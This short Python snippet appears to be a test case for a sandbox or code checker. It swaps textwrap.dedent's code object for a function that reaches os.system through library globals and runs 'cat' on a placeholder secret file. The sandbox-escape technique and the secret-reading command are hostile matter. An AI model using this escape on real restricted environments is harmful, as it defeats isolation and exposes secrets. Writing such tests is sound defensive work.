# A library function is given the program's code: it runs with the library's globals.
# effect: run
import textwrap
def work(text):
    return re.enum.sys.modules["os"].system("cat @SECRET@")
textwrap.dedent.__code__ = work.__code__
textwrap.dedent("x")
